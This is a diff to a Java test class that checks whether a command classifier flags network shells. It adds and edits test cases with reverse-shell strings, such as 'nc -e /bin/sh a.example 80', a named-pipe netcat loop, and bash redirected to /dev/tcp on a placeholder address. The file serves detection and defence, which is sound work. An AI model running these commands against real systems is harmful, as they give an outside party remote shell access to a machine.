@@ -193,8 +193,13 @@ class EffectsTest {
   void aShellThatIsConnectedToANetworkIsANetworkShell() {
     assertThat(kinds(Runs.redirected("bash -i", "/dev/tcp/1.2.3.4/80")))
         .contains(EffectKind.NETWORK_SHELL);
-    assertThat(kinds(Runs.pipeline("cat pipe ; sh -i ; nc a.example 80")))
+    assertThat(kinds(Runs.pipeline("cat pipe ; sh -i ; nc a.example 80 ; tee pipe")))
         .contains(EffectKind.NETWORK_SHELL);
+    assertThat(kinds(Runs.pipeline("sh -i ; nc a.example 80")))
+        .doesNotContain(EffectKind.NETWORK_SHELL);
+    assertThat(kinds(Runs.of("nc -e /bin/sh a.example 80"))).contains(EffectKind.NETWORK_SHELL);
+    assertThat(kinds(Runs.of("ncat -l 80 --sh-exec date")))
+        .doesNotContain(EffectKind.NETWORK_SHELL);
     assertThat(kinds(Runs.pipeline("telnet a.example 80 ; sh ; telnet a.example 81")))
         .contains(EffectKind.NETWORK_SHELL);
     assertThat(kinds(Runs.pipeline("sh build.sh ; nc a.example 80")))
